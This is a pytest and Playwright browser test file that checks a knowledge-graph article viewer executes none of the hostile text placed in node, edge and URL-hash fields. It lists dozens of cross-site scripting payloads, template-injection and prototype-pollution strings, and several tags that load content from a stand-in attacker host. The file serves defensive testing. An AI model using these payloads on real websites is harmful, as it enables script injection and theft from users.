"""Text of articles is hostile: whatever it holds, wherever it stands, nothing of it runs and nothing is loaded."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import networkx as nx
import pytest

from tests.view.visitor import find

pytestmark = pytest.mark.browser

if TYPE_CHECKING:
    from collections.abc import Callable

    from playwright.sync_api import Page

_RUN = "window.hacked=1"
_MARKUP = (
    "<script>RUN</script>",
    "</script><script>RUN</script>",
    "</SCRIPT ><ScRiPt>RUN</sCrIpT>",
    "<!--</script><script>RUN</script>-->",
    "<!--<script>",
    "<![CDATA[<script>RUN</script>]]>",
    "]]><script>RUN</script>",
    "</title><script>RUN</script>",
    "</style><script>RUN</script>",
    "</textarea><script>RUN</script>",
    "</noscript><script>RUN</script>",
    "</template><script>RUN</script>",
    "<script src=data:text/javascript,RUN></script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=RUN>",
    "<img src='x' onerror='RUN'/>",
    "<img/src=x/onerror=RUN>",
    "<IMG SRC=javascript:RUN>",
    "<svg onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg onload=RUN>'></use></svg>",
    "<math><mi xlink:href='javascript:RUN'>x</mi></math>",
    "<body onload=RUN>",
    "<iframe src=javascript:RUN></iframe>",
    '"><iframe srcdoc="<script>parent.hacked=1</script>">',
    "<object data=javascript:RUN></object>",
    "<embed src=javascript:RUN>",
    "<video><source onerror=RUN></video>",
    "<audio src=x onerror=RUN>",
    "<input autofocus onfocus=RUN>",
    "<select autofocus onfocus=RUN>",
    "<details open ontoggle=RUN>",
    "<marquee onstart=RUN>",
    "<a href=javascript:RUN>x</a>",
    "<a href='java\tscript:RUN'>x</a>",
    "<form action=javascript:RUN><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<div style='background:url(javascript:RUN)'>",
    "<xss id=x tabindex=1 onfocus=RUN>",
    "<b>bold</b>",
    "&lt;script&gt;RUN&lt;/script&gt;",
    "&#60;script&#62;RUN&#60;/script&#62;",
    "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
)
_STRINGS = (
    "javascript:RUN",
    "JaVaScRiPt:RUN",
    " javascript:RUN",
    "data:text/html,<script>RUN</script>",
    "vbscript:RUN",
    "' onmouseover='RUN",
    '" onmouseover="RUN" x="',
    "';RUN;'",
    '";RUN;//',
    '\\";RUN;//',
    "`;RUN;`",
    "${RUN}",
    "{{constructor.constructor('RUN')()}}",
    "{% raw %}{{ RUN }}",
    "#{RUN}",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "\u2028RUN\u2029",
    "\x00<script>RUN</script>",
    "\ud800<script>RUN</script>",
    "\u202e<script>RUN</script>",
    "%3Cscript%3ERUN%3C/script%3E",
    "+ADw-script+AD4-RUN+ADw-/script+AD4-",
)
_LOST = "\x00\ud800"
"""What is no letter: HTML and the address cannot hold it."""
ATTACKS = tuple(text.replace("RUN", _RUN) for text in (*_MARKUP, *_STRINGS))


@pytest.fixture(scope="module")
def hostile() -> nx.MultiDiGraph:
    """Each attack as IRI, label, class, name, link, trigger, words, day, speaker, title, publisher, source."""
    network = nx.MultiDiGraph(terms={attack: attack for attack in ATTACKS})
    for number, attack in enumerate(ATTACKS):
        sentence = {"text": attack, "begin": 0, "end": 9, "article": attack, "title": attack, "publisher": attack}
        row: dict[str, Any] = {"event": attack, "kind": "claimed", "label": attack, "trigger": attack, "time": attack}
        row |= {"type": attack, "text": attack, "earliest": attack, "certainty": attack}
        row |= {"roles": [("speaker", attack), (attack, attack), ("affirmedBy", f"{attack}2"), ("deniedBy", attack)]}
        for iri in (attack, f"{attack}2"):
            network.add_node(iri, label=attack, type=attack, group=attack, names=[f"alias{number}"], wikidata=attack)
        row["evidence"] = [sentence | {"date": attack, "source": attack}]
        network.add_edge(attack, f"{attack}2", 1, **row)
    return network


def harmless(page: Page) -> bool:
    """Nothing ran, and nothing of it became an element."""
    made = "a[href^='javascript' i], iframe, object, embed, form, base, img, [onload], [onerror], [onfocus], body script ~ b"
    return page.evaluate("window.hacked") is None and page.locator(made).count() == 0


def test_there_are_enough_of_them() -> None:
    assert len(set(ATTACKS)) >= 60


def test_nothing_runs_when_it_is_found_and_read(opened: Callable[..., Page], hostile: nx.MultiDiGraph) -> None:
    page = opened(hostile)
    for number, attack in enumerate(ATTACKS):
        find(page, f"alias{number}")
        shown = page.text_content("#content h2") or ""
        assert shown.lstrip(_LOST) == attack.lstrip(_LOST)
        assert page.locator("#content blockquote").count() >= 1
        page.keyboard.press("a")
    assert harmless(page)


@pytest.mark.parametrize("address", ["#view=timeline", "#view=statements", "#type=__proto__", "#speaker=constructor"])
def test_nothing_runs_in_the_other_views(opened: Callable[..., Page], hostile: nx.MultiDiGraph, address: str) -> None:
    page = opened(hostile, address, permissions=["clipboard-read", "clipboard-write"])
    page.wait_for_timeout(200)
    page.keyboard.press("f")
    page.click("#by-speaker")
    page.click("#by-in")
    page.keyboard.press("Escape")
    page.click("#share summary")
    page.click("#copy-turtle")
    page.wait_for_selector("#told:has-text('Copied')")
    assert harmless(page)


def test_nothing_runs_from_the_address(opened: Callable[..., Page], hostile: nx.MultiDiGraph) -> None:
    page = opened(hostile)
    home = page.url
    for attack in ATTACKS[::4]:
        page.evaluate(
            "(words) => { location.hash = `#type=${words}&publisher=${words}&since=${words}&sort=${words}`; }",
            attack.replace("\ud800", ""),
        )
        page.wait_for_timeout(30)
    assert page.url.startswith(home)
    assert harmless(page)
